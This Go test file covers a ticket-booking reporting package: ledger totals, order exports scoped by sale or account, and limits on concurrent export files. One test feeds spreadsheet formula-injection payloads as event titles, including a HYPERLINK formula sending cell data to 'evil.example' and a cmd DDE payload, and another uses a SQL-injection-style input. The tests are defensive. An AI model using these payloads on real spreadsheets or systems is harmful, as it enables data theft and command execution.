package insight_test

import (
	"errors"
	"fmt"
	"maps"
	"os"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"pgregory.net/rapid"

	"github.com/ropeline/ropeline"
	"github.com/ropeline/ropeline/booking/catalogue"
	"github.com/ropeline/ropeline/booking/insight"
	"github.com/ropeline/ropeline/booking/order"
)

// Whatever the ledger says, in whatever currency: the lines of the accounts add up to it, to
// the cent, and to the settlement.
func TestTheAccountsAddUpToTheLedger(t *testing.T) {
	t.Parallel()
	b := open(t)
	orders := order.NewStore(b.db, b.shows)
	rapid.Check(t, func(rt *rapid.T) {
		m := b.sale() // another one each time: a ledger is for good
		b.exec(`update performances set tariff = jsonb_build_object('tax_rate', $2::int, 'refund', '{}'::jsonb) where id = $1`, m.ID, rapid.IntRange(0, 2500).Draw(rt, "tax"))
		want := map[string]int64{} // by currency and column, as the ledger has them
		for unit := range rapid.IntRange(1, 6).Draw(rt, "orders") {
			currency := rapid.SampledFrom([]string{"EUR", "GBP"}).Draw(rt, "currency")
			amount := rapid.Int64Range(0, 1_000_000_000).Draw(rt, "amount")
			tender := rapid.SampledFrom([]string{"", "", "cash", "terminal"}).Draw(rt, "tender")
			ledger := []entry{{"placed", amount, ""}}
			add := func(what string, n int64, tender, column string, sign int64) {
				ledger = append(ledger, entry{what, n, tender})
				want[currency+" "+column] += sign * n
			}
			if rapid.Bool().Draw(rt, "captured") {
				column := map[string]string{"": "taken", "cash": "cash", "terminal": "terminal"}[tender]
				add("captured", amount, tender, column, 1)
				add("fee", amount/50, "", "fee", 1)
				want[currency+" tax of"] += amount
				if back := rapid.Int64Range(0, amount).Draw(rt, "back"); back > 0 && tender == "" {
					ledger = append(ledger, entry{"canceled", back, ""})
					add("refunded", back, "", "refunded", 1)
					add("fee_returned", back/50, "", "fee", -1)
				}
				if rapid.Bool().Draw(rt, "disputed") && tender == "" {
					add("withdrawn", amount/2, "", "disputed", 1)
					add("dispute_fee", 1500, "", "dispute_fees", 1)
				}
			}
			b.sold(m, unit, "fan@example.org", "paid", currency, ledger...)
		}
		of := b.of(insight.Scope{Performance: m.ID})
		got := map[string]int64{}
		for _, row := range b.rows(b.Accounts(t.Context(), of)) {
			for _, column := range []string{"taken", "cash", "terminal", "exchanged", "refunded", "to_refund", "disputed", "dispute_fees", "fee", "tax", "owed", "net"} {
				got[row["currency"]+" "+column] += b.cents(row[column])
			}
		}
		for key, n := range want {
			if !strings.HasSuffix(key, "tax of") && got[key] != n {
				rt.Fatalf("the lines add up to %d %s, the ledger says %d", got[key], key, n)
			}
		}
		sums, err := orders.Settle(t.Context(), m.ID)
		b.must(err)
		settled := map[string]int64{}
		for _, s := range sums {
			for column, n := range map[string]int64{"taken": s.Taken, "cash": s.Cash, "terminal": s.Terminal, "exchanged": s.Exchanged, "refunded": s.Refunded, "to_refund": s.ToRefund,
				"disputed": s.Disputed, "dispute_fees": s.Charged, "fee": s.Fee, "tax": s.Tax, "owed": s.Owed, "net": s.Net} {
				settled[s.Currency+" "+column] = n
			}
			if s.Owed+s.Cash+s.Terminal != s.Tax+s.Net {
				rt.Fatalf("%+v does not add up", s)
			}
		}
		if !maps.Equal(got, settled) {
			rt.Fatalf("the lines add up to\n%v\nthe settlement says\n%v", got, settled)
		}
	})
}

// Every order of a scope has a line, of nobody else's, and says who bought it only if that is
// asked for.
func TestOrdersAreThoseOfTheScope(t *testing.T) {
	t.Parallel()
	b := open(t)
	mine, others := b.sale(), b.sale()
	var want []string
	for unit, state := range []string{"paid", "canceled", "pending"} {
		want = append(want, b.sold(mine, unit, "fan@example.org", state, "EUR"))
	}
	b.sold(others, 0, "other@example.org", "paid", "EUR")
	var sale ropeline.SaleID
	b.must(b.db.QueryRow(t.Context(), `select sale_id from sale_performances where performance_id = $1`, mine.ID).Scan(&sale))
	b.exec(`insert into payment_accounts (name, provider_account, charges) values ('opera', 'acct_1', true)`)
	b.exec(`update performances set account = 'opera' where id = $1`, mine.ID)
	for _, scope := range []insight.Scope{{Performance: mine.ID}, {Sale: sale}, {Account: "opera"}} {
		rows := b.rows(b.Orders(t.Context(), b.of(scope), false))
		var got []string
		for _, row := range rows {
			got = append(got, row["order"])
			if _, said := row["email"]; said || row["performance"] != string(mine.ID) {
				t.Errorf("%+v has the line %v", scope, row)
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%+v has %v, want %v", scope, got, want)
		}
		if first := rows[0]; first["amount"] != "45.00" || first["prices"] != "50.00" || first["discount"] != "5.00" || first["tickets"] != "1" || rows[1]["tickets"] != "0" || rows[1]["canceled"] != "1" {
			t.Errorf("the lines are %v", rows)
		}
	}
	if rows := b.rows(b.Orders(t.Context(), b.of(insight.Scope{Sale: sale}), true)); rows[0]["email"] != "fan@example.org" {
		t.Errorf("asked for addresses, the line is %v", rows[0])
	}
	for name, c := range map[string]struct {
		of   insight.Scope
		want error
	}{
		"nothing": {insight.Scope{}, insight.ErrScope}, "two": {insight.Scope{Sale: sale, Account: "opera"}, insight.ErrScope},
		"no performance": {insight.Scope{Performance: "x\x00"}, catalogue.ErrPerformanceUnknown}, "no sale": {insight.Scope{Sale: "'; --"}, ropeline.ErrSaleUnknown},
		"no account": {insight.Scope{Account: "a\x00"}, catalogue.ErrAccountUnknown}, "nobody's": {insight.Scope{Account: "cinema"}, insight.ErrNothing},
	} {
		if shows, err := b.Shows(t.Context(), c.of); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, %v, want %v", name, shows, err, c.want)
		}
	}
}

// No text of somebody else's is a formula where the file is opened, and all of it is there.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	b := open(t)
	m := b.sale()
	for unit, title := range []string{`=HYPERLINK("http://evil.example/?"&A1;"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "＝1+1", "a \"b\"; c,\nd ü 🎫"} {
		b.exec(`update events set title = $2 where id = (select event_id from performances where id = $1)`, m.ID, title)
		b.exec(`insert into order_ledger (performance_id, order_id, entry, amount, currency) values ($1, $2, 'captured', 100, 'EUR')`, m.ID, b.sold(m, unit, "=cmd@example.org", "paid", "EUR"))
		of := b.of(insight.Scope{Performance: m.ID})
		lines := append(b.rows(b.Orders(t.Context(), of, true)), b.rows(b.Accounts(t.Context(), of))...)
		for _, row := range lines {
			if got := row["title"]; strings.ReplaceAll(strings.TrimPrefix(got, "'"), "\r\n", "\n") != title || (got[0] != '\'') != (title[0] == 'a') {
				t.Errorf("the title %q is the cell %q", title, got)
			}
			for column, cell := range row {
				if strings.ContainsAny(cell[:min(1, len(cell))], "=+-@\t\r\n") || !utf8.ValidString(cell) {
					t.Errorf("%s is %q", column, cell)
				}
			}
		}
	}
}

// More than so many files at once are refused, and none is left behind.
func TestFilesAreBounded(t *testing.T) {
	b := open(t)
	t.Setenv("TMPDIR", t.TempDir())
	m := b.sale()
	b.sold(m, 1, "fan@example.org", "paid", "EUR")
	of := b.of(insight.Scope{Performance: m.ID})
	tx, err := b.db.Begin(t.Context()) // in whose way they are
	b.must(err)
	_, err = tx.Exec(t.Context(), `lock table buyers in access exclusive mode`)
	b.must(err)
	done := make(chan error)
	for range insight.MostFiles {
		go func() {
			f, err := b.Orders(t.Context(), of, true)
			if err == nil {
				err = f.Close()
			}
			done <- err
		}()
	}
	waiting := 0
	for waiting < insight.MostFiles {
		b.must(b.db.QueryRow(t.Context(), `select count(*) from pg_stat_activity where datname = current_database() and wait_event_type = 'Lock'`).Scan(&waiting))
	}
	if _, err := b.Orders(t.Context(), of, true); !errors.Is(err, insight.ErrBusy) {
		t.Errorf("one more: %v, want %v", err, insight.ErrBusy)
	}
	b.must(tx.Rollback(t.Context()))
	for range insight.MostFiles {
		b.must(<-done)
	}
	b.rows(b.Orders(t.Context(), of, true))
	left, err := os.ReadDir(os.Getenv("TMPDIR"))
	if err != nil || len(left) > 0 {
		t.Errorf("left behind are %v, %v", fmt.Sprint(left), err)
	}
}
